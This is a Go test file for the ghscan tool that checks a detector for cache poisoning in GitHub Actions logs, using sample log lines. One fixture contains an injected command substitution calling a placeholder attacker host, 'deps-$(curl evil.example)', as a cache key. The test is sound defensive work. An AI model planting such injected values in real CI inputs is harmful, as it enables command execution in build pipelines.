@@ -0,0 +1,79 @@
+package workflow_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	"github.com/chainguard-dev/ghscan/pkg/workflow"
+)
+
+func TestParseLogs_CachePoisoningDetector(t *testing.T) {
+	t.Cleanup(workflow.SnapshotDetectorsForTest())
+
+	if err := workflow.RegisterDetector(workflow.DetectorCachePoisoning, workflow.NewCachePoisoningDetector()); err != nil {
+		t.Fatalf("RegisterDetector: %v", err)
+	}
+	custom, err := ioc.NewIOC(&ioc.Config{Name: "t", Content: []string{"NEVER_PRESENT"}})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+
+	cases := []struct {
+		name       string
+		log        string
+		wantReason string
+	}{
+		{
+			name: "exact primary key hit",
+			log: "##[group]Run actions/cache@v4\nwith:\n  path: ~/.npm\n  key: Linux-node-abc\n##[endgroup]\n" +
+				"Cache restored from key: Linux-node-abc\n",
+		},
+		{
+			name: "restore-keys fallback",
+			log: "2025-03-14T00:00:00.0000000Z ##[group]Run actions/cache@v4\n2025-03-14T00:00:00.0000000Z with:\n" +
+				"2025-03-14T00:00:00.0000000Z   key: Linux-node-abc\n2025-03-14T00:00:00.0000000Z   restore-keys: Linux-node-\n" +
+				"2025-03-14T00:00:01.0000000Z Cache restored from key: Linux-node-zzz\n",
+			wantReason: "differs from primary key Linux-node-abc",
+		},
+		{
+			name: "primary key scoped to its step",
+			log: "##[group]Run actions/cache@v4\nwith:\n  key: Linux-node-abc\n##[endgroup]\n" +
+				"##[group]Run actions/setup-go@v5\n##[endgroup]\nCache restored from key: setup-go-Linux-x64\n",
+		},
+		{
+			name:       "shell syntax in saved key",
+			log:        "Cache saved with key: deps-$(curl evil.example)\n",
+			wantReason: "shell or expression syntax",
+		},
+		{
+			name:       "pull request ref in key",
+			log:        "Cache restored from key: build-refs/pull/42/merge\n",
+			wantReason: "pull request ref",
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			findings, found := workflow.ParseLogs(newTestLogger(), tc.log, 1, custom)
+			if tc.wantReason == "" {
+				if found {
+					t.Fatalf("findings=%+v, want none", findings)
+				}
+				return
+			}
+			if len(findings) != 1 {
+				t.Fatalf("findings=%+v, want exactly one", findings)
+			}
+			f := findings[0]
+			if f.KeyType != workflow.DetectorCachePoisoning || f.Severity != workflow.SeverityLow {
+				t.Fatalf("finding=%+v, want cache-poisoning at low severity", f)
+			}
+			if !strings.HasPrefix(f.Note, "low-confidence lead") || !strings.Contains(f.Note, tc.wantReason) {
+				t.Fatalf("Note=%q, want low-confidence lead mentioning %q", f.Note, tc.wantReason)
+			}
+			if !strings.HasPrefix(f.LineData, "Cache ") {
+				t.Fatalf("LineData=%q, want the timestamp-stripped cache line", f.LineData)
+			}
+		})
+	}
+}